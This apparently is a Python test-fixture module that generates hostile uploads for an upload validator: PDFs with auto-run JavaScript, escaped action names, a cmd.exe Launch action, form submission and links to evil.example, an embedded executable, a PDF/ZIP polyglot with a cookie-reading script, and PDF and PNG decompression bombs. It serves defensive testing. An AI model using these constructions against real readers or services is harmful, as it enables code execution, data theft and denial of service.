"""Hostile uploads, made here rather than stored: PDFs with active content, polyglots, bombs.

Each builder returns the bytes an attacker would post; ``scripts/bench_uploads.py`` uses the
heavy ones (a PDF of 100,000 empty pages, a small PNG declaring about 40 Mpx).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib


def build_pdf(catalog: str = "", page: str = "", objects: tuple[str, ...] = (), comment: str = "") -> bytes:
    """A small, well-formed PDF: catalog (1), page tree (2), one page (3), then ``objects``
    numbered from 4; ``catalog`` and ``page`` are extra entries of those dictionaries."""
    bodies = [f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
              "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
              f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {page} >>", *objects]
    out = b"%PDF-1.7\n" + (f"%{comment}\n".encode("latin-1") if comment else b"")
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(bodies) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


# name -> PDF that a citizen's scan never is. Names are often spelled with #xx escapes
# (/Java#53cript is /JavaScript to a reader), actions hidden behind /Next.
ACTIVE_PDFS: dict[str, bytes] = {
    "javascript_open_action": build_pdf("/OpenAction 4 0 R", objects=("<< /S /JavaScript /JS (app.alert(1)) >>",)),
    "javascript_escaped_names": build_pdf("/OpenAction 4 0 R", objects=("<< /S /Java#53cript /J#53 (app.alert(1)) >>",)),
    "javascript_in_name_tree": build_pdf("/Names << /Java#53cript 4 0 R >>",
                                         objects=("<< /Names [(x) 5 0 R] >>", "<< /S /GoTo /D [3 0 R /Fit] >>")),
    "javascript_chained_through_next": build_pdf(
        "/OpenAction 4 0 R", objects=("<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
                                      "<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>",
                                      "<< /S /#4Aava#53cript /#4AS (app.alert(1)) >>")),
    "launch_chained_through_next": build_pdf(
        "/OpenAction 4 0 R", objects=("<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
                                      "<< /S /L#61unch /F (cmd.exe) >>")),
    "submitform_in_link_annotation": build_pdf(
        page="/Annots [4 0 R]", objects=("<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
                                         "/A << /S /Submit#46orm /F (https://evil.example/) >> >>",)),
    "importdata": build_pdf("/OpenAction << /S /ImportData /F (donnees.fdf) >>"),
    "gotor_in_link": build_pdf(page="/Annots [4 0 R]", objects=(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /GoTo#52 /F (autre.pdf) /D [0 /Fit] >> >>",)),
    "gotoe": build_pdf("/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>"),
    "auto_open_uri": build_pdf("/OpenAction << /S /URI /URI (https://evil.example/) >>"),
    "auto_open_uri_chained": build_pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] "
                                       "/Next << /S /U#52I /URI (https://evil.example/) >> >>"),
    "page_additional_action": build_pdf(page="/AA << /O << /S /URI /URI (https://evil.example/) >> >>"),
    "richmedia_annotation": build_pdf(page="/Annots [4 0 R]", objects=(
        "<< /Type /Annot /Subtype /Rich#4Dedia /Rect [0 0 1 1] >>",)),
    "embedded_file": build_pdf("/Names << /Embedded#46iles 4 0 R >>", objects=(
        "<< /Names [(facture.exe) 5 0 R] >>", "<< /Type /Filespec /F (facture.exe) /#45F << /F 6 0 R >> >>",
        "<< /Type /#45mbeddedFile /Length 2 >>\nstream\nMZ\nendstream")),
    "xfa_form": build_pdf("/AcroForm << /Fields [] /X#46A 4 0 R >>", objects=("<< /Length 0 >>\nstream\n\nendstream",)),
    "html_markup": build_pdf(comment="<img src=x onerror=alert(1)>"),
    "html_in_a_string": build_pdf(page="/Annots [4 0 R]", objects=(
        "<< /Type /Annot /Subtype /Text /Rect [0 0 1 1] /Contents (<a href=https://evil.example/>ici</a>) >>",)),
}


def zip_polyglot() -> bytes:
    """A PDF that is also a ZIP holding an HTML page: the archive's comment ends it with %%EOF."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("page.html", "<html><body><script>alert(document.cookie)</script></body></html>")
        z.comment = b"\n%%EOF\n"
    return build_pdf() + archive.getvalue()


def link_pdf() -> bytes:
    """A link the reader clicks (not automatic): ordinary in a letter, accepted."""
    return build_pdf(page="/Annots [4 0 R]", objects=(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.service-public.fr/) >> >>",))


def many_pages_pdf(pages: int, declared: int | None = None) -> bytes:
    """``pages`` empty pages; ``declared`` puts another number in the page tree's /Count."""
    kids = " ".join(f"{n} 0 R" for n in range(3, pages + 3))
    bodies = ["<< /Type /Catalog /Pages 2 0 R >>",
              f"<< /Type /Pages /Kids [{kids}] /Count {pages if declared is None else declared} >>"]
    bodies += ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * pages
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(bodies) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def png_declaring(width: int, height: int) -> bytes:
    """A valid PNG of ``width`` x ``height`` black pixels, tiny once compressed (a bomb)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    row = b"\x00" * (1 + 3 * width)
    rows_per_piece = max(1, (1 << 22) // len(row))
    body = bytearray()
    for start in range(0, height, rows_per_piece):
        body += packer.compress(row * min(rows_per_piece, height - start))
    body += packer.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", bytes(body)) + chunk(b"IEND", b""))
